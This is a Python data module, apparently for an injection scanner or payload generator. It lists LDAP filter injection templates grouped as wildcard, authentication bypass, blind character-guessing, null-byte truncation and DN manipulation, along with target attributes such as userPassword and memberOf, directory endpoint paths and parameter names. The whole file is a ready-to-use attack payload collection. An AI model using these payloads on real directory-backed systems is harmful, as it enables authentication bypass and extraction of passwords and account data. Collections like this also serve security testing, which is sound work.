"""LDAP filter injection: the value lands inside a filter such as (&(uid=VALUE)(userPassword=...)).
(technique, template); {user} a target account, {attr}/{attr2} attributes, {c} a letter being guessed."""

LDAP = [
    ("wildcard", "*"), ("wildcard", "*)(uid=*))(|(uid=*"), ("wildcard", "*)(|(objectclass=*)"), ("wildcard", "*)(|({attr}=*)"),
    ("wildcard", "*))(|(objectClass=*"), ("wildcard", "*)({attr}=*"), ("wildcard", "*(|({attr}=*))"), ("wildcard", "{user}*"),
    ("wildcard", "*)(|({attr}=*)({attr2}=*))"), ("wildcard", "*)(objectClass=*))(&(objectClass=void"), ("wildcard", "*))\0"),
    ("auth_bypass", "{user})(&)"), ("auth_bypass", "{user})(&))"), ("auth_bypass", "{user})(|(&"), ("auth_bypass", "{user})(!(&(1=0"),
    ("auth_bypass", "{user})(|(userPassword=*))"), ("auth_bypass", "*)(&"), ("auth_bypass", "{user}))(|(uid=*"),
    ("auth_bypass", "{user})(userPassword=*)"), ("auth_bypass", "{user})(|(objectClass=*)"), ("auth_bypass", "*)(|(&(uid={user})"),
    ("auth_bypass", "{user})(|(cn=*))"), ("auth_bypass", "*)(!(uid=nobody)"), ("auth_bypass", "{user})(&(objectClass=*)"),
    ("blind", "{user})({attr}={c}*"), ("blind", "*)({attr}={c}*))\0"), ("blind", "{user})(&({attr}={c}*)(objectClass=user))"),
    ("blind", "*)(|({attr}={c}*)({attr2}={c2}*))"), ("blind", "{user}*)(memberOf=cn=admins*"), ("blind", ")(cn=*"), ("blind", ")({attr}=*"),
    ("blind", "{user})(description=*{w}*"), ("blind", "*)(userPassword={c}*"), ("blind", "{user})(|({attr}>={c})"),
    ("blind", "*)({attr}~={w}"), ("blind", "{user})(mail=*@*"),
    ("truncation", "{user})\0"), ("truncation", "{user}))\0"), ("truncation", "*)(uid=*))\0"), ("truncation", "{user})(&)\0{w}"),
    ("truncation", "=*%29%28uid%3D*%29%29%00"), ("truncation", "={user}%29%28%26%29%00"), ("truncation", "={user}%29%29%28%7C%28uid%3D*%00"),
    ("truncation", "*)(cn=*))\0(|(cn=*"),
    ("dn", "{user},ou=admins,dc={w},dc=local"), ("dn", "*,cn=admins,dc={w}"), ("dn", "{user}+cn=administrator"),
    ("dn", "cn=*)(objectClass=*"), ("dn", "{user},cn=Administrators,cn=Builtin"),
]
LDAP_ATTRIBUTES = """uid cn mail objectClass userPassword sn givenName memberOf description telephoneNumber ou sAMAccountName
distinguishedName homeDirectory loginShell userAccountControl member gidNumber uidNumber displayName department manager
employeeID title""".split()
LDAP_ENDPOINTS = ["/directory/search", "/people", "/ldap/lookup", "/api/users/find", "/addressbook", "/staff/search",
                  "/phonebook", "/auth/ldap", "/admin/ldap/users", "/api/directory", "/whois", "/groups/members"]
LDAP_PARAMS = ["uid", "cn", "user", "username", "name", "mail", "filter", "q", "search", "member", "group", "login"]
